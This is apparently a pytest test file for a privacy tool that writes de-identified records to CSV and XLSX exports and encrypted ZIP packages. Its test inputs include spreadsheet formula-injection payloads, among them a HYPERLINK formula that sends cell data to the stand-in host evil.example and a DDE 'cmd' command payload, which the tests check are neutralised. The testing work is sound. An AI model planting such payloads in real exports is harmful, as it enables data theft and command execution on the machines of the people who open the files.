"""CSV/XLSX exports: formula injection, types, encryption, hashes, and nothing but de-identified rows."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import pyzipper

from picket.privacy.deidentify import (
    DeidentifiedRow,
    Policy,
    age_band,
    deidentify_rows,
    drop,
    keep,
    month,
    pseudonym,
)
from picket.privacy.exports import (
    ExportError,
    export_package,
    neutralise_formula,
    write_csv,
    write_xlsx,
)
from picket.privacy.suppression import CrossTab, suppress_small_cells

PASSWORD = "correct horse battery"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0+1",
    "\uff1d1+1",
]
COLUMNS = ("id", "status", "count", "ratio", "flag")


def rows_of(*values):
    return [DeidentifiedRow(zip(COLUMNS, v, strict=True)) for v in values]


def sample_rows():
    hostile = [(f"p{n}", text, -n, -1.5, n % 2 == 0) for n, text in enumerate(HOSTILE)]
    return rows_of(*hostile, ("p-safe", "rescued", 7, Decimal("2.50"), None))


def read_csv(text):
    return list(csv.reader(io.StringIO(text)))


# --- neutralising formulas --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_prefixed(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["rescued", "12\u201314", "2024-03", "a=b", "भारत", "", "'quoted", "18+"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_formula(text) == text


def test_csv_neutralises_text_and_keeps_numbers_as_numbers():
    stream = io.StringIO(newline="")
    assert write_csv(sample_rows(), COLUMNS, stream) == len(HOSTILE) + 1
    lines = read_csv(stream.getvalue())
    assert lines[0] == list(COLUMNS)
    for line, text in zip(lines[1:], HOSTILE, strict=False):
        assert line[1] == "'" + text
    assert lines[3][2] == "-2" and lines[3][3] == "-1.5"  # numbers are not quoted
    assert lines[-1] == ["p-safe", "rescued", "7", "2.50", ""]
    assert stream.getvalue().endswith("\r\n")


def test_xlsx_writes_text_as_strings_never_formulas_and_numbers_as_numbers():
    buffer = io.BytesIO()
    extra = rows_of(("#N/A", "#REF!", 0, 0.0, False), ("  spaced  ", "a\x00b\x1fc\r", 10**12, 1e-5, True))
    assert write_xlsx([*sample_rows(), *extra], COLUMNS, buffer) == len(HOSTILE) + 3
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["data"]
    lines = list(sheet.iter_rows())
    assert [c.value for c in lines[0]] == list(COLUMNS)
    for line, text in zip(lines[1:], HOSTILE, strict=False):
        cell = line[1]
        assert cell.data_type == "s"
        assert cell.value == "'" + text  # a carriage return survives too: it is written as &#13;
    assert not any(c.data_type == "f" for line in lines for c in line)
    assert (lines[3][2].value, lines[3][2].data_type, lines[3][3].value) == (-2, "n", -1.5)
    assert (lines[3][4].value, lines[3][4].data_type) == (True, "b")
    assert [c.value for c in lines[-3][:4]] == ["p-safe", "rescued", 7, 2.5]
    assert lines[-3][4].value is None
    assert [(c.value, c.data_type) for c in lines[-2][:2]] == [("#N/A", "s"), ("#REF!", "s")]  # not error cells
    assert lines[-1][0].value == "  spaced  " and lines[-1][1].value == "abc\r"
    assert (lines[-1][2].value, lines[-1][3].value) == (10**12, 1e-5)


def test_xlsx_round_trips_devanagari_and_escapes_markup():
    buffer = io.BytesIO()
    rows = [DeidentifiedRow(district="पटना", status="<b>&amp;</b>")]
    write_xlsx(rows, ("district", "status"), buffer, sheet="जिले")
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["जिले"]
    assert [c.value for c in next(sheet.iter_rows(min_row=2))] == ["पटना", "<b>&amp;</b>"]


# --- only de-identified rows ------------------------------------------------------------------------------------


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_only_deidentified_rows_are_written(writer):
    target = io.StringIO() if writer is write_csv else io.BytesIO()
    with pytest.raises(TypeError, match="deidentify_rows"):
        writer([{"status": "rescued", "name": "Asha"}], ["status"], target)


@pytest.mark.parametrize("value", [b"\x89PNG", ["a"], {"a": 1}, object()])
def test_values_that_are_not_cells_are_refused_naming_the_column(value):
    with pytest.raises(ExportError) as raised:
        write_csv([DeidentifiedRow(photo=value)], ["photo"], io.StringIO())
    assert raised.value.field == "photo"


def test_columns_choose_and_order_what_is_written():
    stream = io.StringIO()
    write_csv([DeidentifiedRow(a=1, b=2, secret="x")], ["b", "a", "missing"], stream)
    assert read_csv(stream.getvalue()) == [["b", "a", "missing"], ["2", "1", ""]]
    with pytest.raises(ExportError, match="columns"):
        write_csv([], ["a", "a"], io.StringIO())
    with pytest.raises(ExportError, match="columns"):
        write_csv([], [], io.StringIO())


def test_overlong_text_is_refused():
    with pytest.raises(ExportError, match="status"):
        write_csv([DeidentifiedRow(status="x" * 32_768)], ["status"], io.StringIO())


# --- packages ---------------------------------------------------------------------------------------------------


def test_csv_package_has_a_bom_a_hash_and_a_row_count():
    result = export_package(sample_rows(), COLUMNS, fmt="csv", name="district-summary")
    assert (result.filename, result.content_type) == ("district-summary.csv", "text/csv; charset=utf-8")
    assert result.content.startswith(b"\xef\xbb\xbf")
    assert result.row_count == len(HOSTILE) + 1
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    assert read_csv(result.content.decode("utf-8-sig"))[1][1] == "'" + HOSTILE[0]
    assert "HYPERLINK" not in repr(result)


def test_xlsx_package():
    result = export_package(sample_rows(), COLUMNS, fmt="xlsx")
    assert result.filename == "picket-export.xlsx"
    assert result.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    sheet = openpyxl.load_workbook(io.BytesIO(result.content))["data"]
    assert sheet.max_row == result.row_count + 1


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_encrypted_zip_opens_with_the_password_only(fmt):
    result = export_package(sample_rows(), COLUMNS, fmt=fmt, password=PASSWORD, name="partner")
    assert (result.filename, result.content_type) == ("partner.zip", "application/zip")
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    assert result.row_count == len(HOSTILE) + 1
    with pyzipper.AESZipFile(io.BytesIO(result.content)) as archive:
        (info,) = archive.infolist()
        assert info.filename == f"partner.{fmt}"
        assert info.wz_aes_strength == 3  # AES-256
        with pytest.raises(RuntimeError, match="password"):
            archive.read(info.filename)
        archive.setpassword(b"wrong password!!")
        with pytest.raises(RuntimeError, match="Bad password"):
            archive.read(info.filename)
        archive.setpassword(PASSWORD.encode())
        inner = archive.read(info.filename)
    with zipfile.ZipFile(io.BytesIO(result.content)) as plain, pytest.raises(RuntimeError, match="encrypted"):
        plain.read(f"partner.{fmt}")  # nor can the standard library
    if fmt == "csv":
        assert inner == export_package(sample_rows(), COLUMNS, fmt="csv", name="partner").content
        assert b"HYPERLINK" not in result.content  # encrypted, not merely stored
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(inner))["data"]
        assert sheet.cell(row=2, column=2).value == "'" + HOSTILE[0]


@pytest.mark.parametrize("password", ["", "short", "elevenchars"])
def test_short_passwords_are_refused_before_any_row_is_read(password):
    def rows():
        raise AssertionError("rows were read")
        yield DeidentifiedRow()

    with pytest.raises(ExportError, match="password") as raised:
        export_package(rows(), COLUMNS, fmt="csv", password=password)
    assert raised.value.field == "password"
    assert password not in str(raised.value).replace("password", "") or not password


def test_twelve_characters_are_enough():
    assert export_package([], ["a"], fmt="csv", password="twelve chars").row_count == 0


@pytest.mark.parametrize(("kwargs", "field"), [({"fmt": "pdf"}, "fmt"), ({"fmt": "csv", "name": "../x"}, "name")])
def test_bad_arguments_are_refused(kwargs, field):
    with pytest.raises(ExportError) as raised:
        export_package([], ["a"], **kwargs)
    assert raised.value.field == field


# --- end to end and volume --------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_twenty_thousand_de_identified_rows(fmt):
    policy = Policy(
        "children",
        {
            "id": pseudonym(),
            "name": drop(),
            "gender": keep(),
            "date_of_birth": age_band(output="age_band"),
            "rescued_on": month(),
            "district": keep(),
        },
    )
    records = (
        {
            "id": n,
            "name": "Asha Kumari",
            "gender": "FM"[n % 2],
            "date_of_birth": date(2008 + n % 10, 1 + n % 12, 1 + n % 28),
            "rescued_on": date(2024, 1 + n % 12, 1 + n % 28),
            "district": "=cmd" if n == 19_999 else 500 + n % 40,
            "village": "Rampur",
        }
        for n in range(20_000)
    )
    rows = deidentify_rows(records, policy, reference_date=date(2025, 1, 1))
    result = export_package(rows, policy.columns, fmt=fmt, password=PASSWORD)
    assert result.row_count == 20_000
    with pyzipper.AESZipFile(io.BytesIO(result.content)) as archive:
        archive.setpassword(PASSWORD.encode())
        inner = archive.read(archive.namelist()[0])
    if fmt == "csv":
        assert b"Asha" not in inner and b"Rampur" not in inner
        lines = read_csv(inner.decode("utf-8-sig"))
        assert lines[0] == list(policy.columns) and len(lines) == 20_001
        assert lines[-1][-1] == "'=cmd"
    else:
        with zipfile.ZipFile(io.BytesIO(inner)) as package:
            assert not any(b"Asha" in package.read(n) or b"Rampur" in package.read(n) for n in package.namelist())
        sheet = openpyxl.load_workbook(io.BytesIO(inner), read_only=True)["data"]
        lines = list(sheet.iter_rows(values_only=True))
        assert lines[0] == policy.columns and len(lines) == 20_001
        assert lines[1][4] == 500 and lines[-1][-1] == "'=cmd"


def test_a_suppressed_table_exports():
    table = suppress_small_cells(CrossTab(("Gaya", "Patna"), ("labour", "sexual"), ((3, 40), (25, 31))))
    result = export_package(table.to_rows(row_header="district"), table.columns(row_header="district"), fmt="csv")
    lines = read_csv(result.content.decode("utf-8-sig"))
    assert lines[0] == ["district", "labour", "sexual", "Total"]
    assert lines[1][1] == "*" and lines[-1][0] == "Total"
    assert result.row_count == 3
